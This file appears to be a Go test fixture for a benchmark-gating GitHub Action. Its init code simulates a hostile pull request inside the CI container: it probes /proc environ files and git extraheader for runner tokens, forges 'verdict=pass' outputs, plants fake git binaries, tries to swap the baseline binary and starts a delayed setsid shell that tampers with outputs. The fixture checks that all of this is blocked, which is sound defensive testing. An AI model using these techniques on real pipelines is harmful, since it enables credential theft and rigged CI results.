package fixture

// A pull request that attacks the gate (scripts/container-e2e.sh, run
// hostile). Its init runs in every process of the test binary, listing
// and rounds, inside the Action's container, and reports each attempt as
// a "# hostile ok/denied:" comment in the results. The script checks
// that every attempt is denied, that the runner's file commands stay
// untouched, and that the verdict and exit code are those of the code's
// real speed.

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
)

func say(what string, err error) {
	if err == nil {
		fmt.Printf("# hostile ok: %s\n", what)
	} else {
		fmt.Printf("# hostile denied: %s: %v\n", what, err)
	}
}

// tokens are what the runner gives the action's container that must not
// reach the code under test.
var tokens = []string{"INPUT_GITHUB-TOKEN=ghs_", "ACTIONS_RUNTIME_TOKEN=", "ACTIONS_ID_TOKEN_REQUEST_TOKEN="}

func readTokens(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	for _, t := range tokens {
		if strings.Contains(string(b), t) {
			// Printed in part only: the script checks that no token
			// reaches the results, and this line would be one.
			return nil
		}
	}
	return errors.New("readable, without a token")
}

func appendTo(path, line string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString(line)
	return err
}

func init() {
	say("tokens in /proc/1/environ (benchgate)", readTokens("/proc/1/environ"))
	say(fmt.Sprintf("tokens in /proc/%d/environ", os.Getppid()), readTokens(fmt.Sprintf("/proc/%d/environ", os.Getppid())))
	for _, kv := range os.Environ() {
		if strings.HasPrefix(kv, "INPUT_") || strings.HasPrefix(kv, "ACTIONS_") || strings.HasPrefix(kv, "GITHUB_") {
			say("a runner variable in its environment: "+strings.SplitN(kv, "=", 2)[0], nil)
		}
	}
	commands, _ := filepath.Glob("/github/file_commands/*")
	if len(commands) == 0 {
		say("listing /github/file_commands", errors.New("nothing there"))
	}
	for _, f := range commands {
		line := "PWNED=1\n"
		switch {
		case strings.Contains(f, "set_output"):
			line = "verdict=pass\nregressions=0\n"
		case strings.Contains(f, "add_path"):
			line = "/pwned\n"
		}
		say("appending to "+filepath.Base(f), appendTo(f, line))
	}
	for _, f := range []string{"/github/workspace/pwned", "/github/workspace/bench-results/pwned", "/github/workspace/.benchgate/pwned", "/go/bin/git", "/usr/local/bin/git"} {
		say("creating "+f, os.WriteFile(f, []byte("#!/bin/sh\necho pwned\n"), 0o755))
	}
	self, _ := os.Executable()
	if strings.Contains(self, "/bin1/") {
		other := strings.Replace(self, "/bin1/", "/bin0/", 1)
		f, err := os.OpenFile(other, os.O_WRONLY, 0)
		if err == nil {
			f.Close()
		}
		say("opening the base side's binary for writing", err)
		say("replacing the base side's binary", os.Rename(self, other))
	}
	out, err := exec.Command("git", "config", "--get-regexp", "extraheader").CombinedOutput()
	if err == nil && !strings.Contains(string(out), "AUTHORIZATION") {
		err = errors.New("no extraheader")
	}
	say("git config --get-regexp extraheader in its source", err)
	b, err := os.ReadFile("/github/workspace/.git/config")
	if err == nil && !strings.Contains(string(b), "extraheader") {
		err = errors.New("no extraheader")
	}
	say("reading /github/workspace/.git/config", err)
	say("signalling benchgate (PID 1)", syscall.Kill(1, 0))
	// What the probe did: wait until benchgate has written its outputs,
	// then append verdict=pass (the last value wins) and print a
	// workflow command after the stop-commands token.
	late := exec.Command("setsid", "sh", "-c", `for i in $(seq 100); do sleep 0.2; for f in /github/file_commands/set_output_*; do [ -s "$f" ] && echo verdict=pass >>"$f"; done; echo "::error::pwned by a grandchild"; done`)
	late.Stdout = os.Stdout
	if err := late.Start(); err != nil {
		fmt.Println("# hostile could not start a grandchild:", err)
	} else {
		fmt.Println("# hostile started a grandchild that writes later")
	}
}
